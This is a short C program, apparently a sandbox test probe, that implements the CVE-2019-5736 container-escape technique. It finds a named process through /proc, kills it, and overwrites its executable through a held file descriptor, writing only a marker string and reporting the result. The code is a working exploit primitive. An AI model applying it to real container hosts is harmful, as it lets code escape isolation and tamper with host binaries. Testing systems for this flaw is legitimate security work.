/* overwrite COMM EXE: waits, until its input ends, for a process of that name which executes a program whose path holds
   EXE; keeps that open by /proc/PID/exe, kills the process, for what is executed cannot be written to, and writes to
   the file: CVE-2019-5736. "write: ok" or "write: ERRNO". */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <unistd.h>

#include "answer.h"

static bool has_name(const char* pid, const char* name) {
    char path[320];
    char comm[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    const int opened = open(path, O_RDONLY);
    const ssize_t count = opened < 0 ? -1 : read(opened, comm, sizeof comm - 1);
    close(opened);
    comm[count > 0 ? count - 1 : 0] = '\0';
    return strcmp(comm, name) == 0;
}

/* The program of the process, if it is the one that is looked for. */
static int open_program(const char* pid, const char* part) {
    char path[320];
    char target[4096] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (readlink(path, target, sizeof target - 1) <= 0 || strstr(target, part) == NULL) {
        return -1;
    }
    return open(path, O_RDONLY | O_CLOEXEC);
}

static void overwrite(int program) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    int opened = -1;
    for (int i = 0; i < 2000 && (opened = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY; ++i) {
        usleep(1000);
    }
    answer("write", opened < 0 ? -1 : write(opened, "overwritten", 11));
    close(opened);
}

int main(int argc, char** argv) {
    if (argc != 3) {
        return 2;
    }
    printf("up\n");
    fflush(stdout);
    for (struct pollfd input = {STDIN_FILENO, POLLIN, 0}; poll(&input, 1, 0) == 0;) {
        DIR* processes = opendir("/proc");
        for (struct dirent* entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
            if (!isdigit((unsigned char)entry->d_name[0]) || !has_name(entry->d_name, argv[1])) {
                continue;
            }
            const int program = open_program(entry->d_name, argv[2]);
            if (program >= 0) {
                kill((pid_t)strtol(entry->d_name, NULL, 10), SIGKILL);
                overwrite(program);
                close(program);
            }
        }
        closedir(processes);
    }
    return 0;
}
